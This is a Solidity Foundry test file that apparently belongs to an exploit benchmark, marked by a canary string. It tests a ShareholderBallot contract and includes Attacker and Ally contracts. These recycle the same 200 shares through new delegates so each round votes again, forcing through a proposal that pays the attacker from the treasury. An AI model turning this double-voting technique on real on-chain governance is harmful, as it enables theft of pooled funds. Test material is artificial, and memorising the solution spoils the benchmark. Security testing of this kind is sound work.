// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./ShareholderBallot.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/extensions/ERC20Votes.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts@5.4.0/utils/cryptography/EIP712.sol";

// assay-canary-f4661730-50af-46b1-bfda-81918c15785e

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function roll(uint256 number) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Share is ERC20Votes {
    constructor() ERC20("Share", "SH") EIP712("Share", "1") {
        _mint(msg.sender, 1_000e18);
    }
}

contract Cash is ERC20 {
    constructor() ERC20("Cash", "CASH") {
        _mint(msg.sender, 1_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    Share private shares;
    Cash private money;
    ShareholderBallot private ballot;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.roll(100);
        shares = new Share();
        money = new Cash();
        ballot = new ShareholderBallot(shares, money);
        money.transfer(address(ballot), 1_000e18);
        shares.transfer(ANA, 450e18);
        shares.transfer(BEN, 350e18);
        mallory = new Attacker(ballot, shares);
        shares.transfer(address(mallory), 200e18);
        vm.prank(ANA);
        shares.delegate(ANA);
        vm.prank(BEN);
        shares.delegate(BEN);
        mallory.prepare();
        vm.roll(105);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        uint256 id = ballot.propose(BEN, 100e18);
        ballot.vote(id, true);
        vm.stopPrank();
        vm.roll(106);
        vm.prank(BEN);
        ballot.vote(id, true);
        vm.warp(START + 7 days);
        ballot.execute(id);
        require(money.balanceOf(BEN) == 100e18, "paid");
        (,,,, uint256 yes, uint256 no, bool executed) = ballot.proposals(id);
        require(yes == 800e18 && no == 0 && executed, "counted");
    }

    function test_RefusesProposals() public {
        vm.expectRevert(NothingAsked.selector);
        ballot.propose(address(0), 1);
        vm.expectRevert(NothingAsked.selector);
        ballot.propose(ANA, 0);
        vm.expectRevert(bytes("zero"));
        new ShareholderBallot(IVotes(address(0)), money);
        vm.expectRevert(bytes("zero"));
        new ShareholderBallot(shares, IERC20(address(0)));
    }

    function test_RefusesBallots() public {
        uint256 id = ballot.propose(BEN, 100e18);
        vm.expectRevert(NoVotes.selector);
        ballot.vote(id, true);
        vm.startPrank(ANA);
        ballot.vote(id, true);
        vm.expectRevert(Voted.selector);
        ballot.vote(id, false);
        vm.stopPrank();
        vm.warp(START + 7 days);
        vm.prank(BEN);
        vm.expectRevert(Closed.selector);
        ballot.vote(id, true);
    }

    function test_RefusesExecuting() public {
        uint256 id = ballot.propose(BEN, 100e18);
        uint256 other = ballot.propose(BEN, 100e18);
        vm.startPrank(ANA);
        ballot.vote(id, true);
        ballot.vote(other, false);
        vm.stopPrank();
        vm.expectRevert(StillOpen.selector);
        ballot.execute(id);
        vm.prank(BEN);
        ballot.vote(other, true);
        vm.warp(START + 7 days);
        vm.expectRevert(Lost.selector);
        ballot.execute(id);
        vm.expectRevert(Lost.selector);
        ballot.execute(other);
    }

    function test_RefusesMinorities() public {
        uint256 id = ballot.propose(BEN, 100e18);
        vm.prank(ANA);
        ballot.vote(id, false);
        mallory.support(id);
        vm.prank(BEN);
        ballot.vote(id, true);
        vm.warp(START + 7 days);
        ballot.execute(id);
        vm.expectRevert(Lost.selector);
        ballot.execute(id);
        id = ballot.propose(BEN, 100e18);
        mallory.support(id);
        vm.warp(START + 14 days);
        vm.expectRevert(Lost.selector);
        ballot.execute(id);
    }

    function exploit() public {
        mallory.run(address(mallory));
        vm.warp(START + 7 days);
        mallory.end();
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) >= 900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(ballot);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function cash() public view returns (address) {
        return address(money);
    }
}

contract Ally {
    function run(ShareholderBallot ballot, Share shares, uint256 id, address next) external {
        shares.delegate(address(this));
        ballot.vote(id, true);
        shares.transfer(next, shares.balanceOf(address(this)));
    }
}

contract Attacker {
    ShareholderBallot private ballot;
    Share private shares;
    uint256 private id;

    constructor(ShareholderBallot b, Share s) {
        ballot = b;
        shares = s;
    }

    function prepare() external {
        shares.delegate(address(this));
    }

    function support(uint256 i) external {
        ballot.vote(i, true);
    }

    function run(address to) external {
        id = ballot.propose(to, 1_000e18);
        ballot.vote(id, true);
        for (uint256 i = 0; i < 2; i++) {
            Ally ally = new Ally();
            shares.transfer(address(ally), 200e18);
            ally.run(ballot, shares, id, address(this));
        }
    }

    function end() external {
        ballot.execute(id);
    }
}
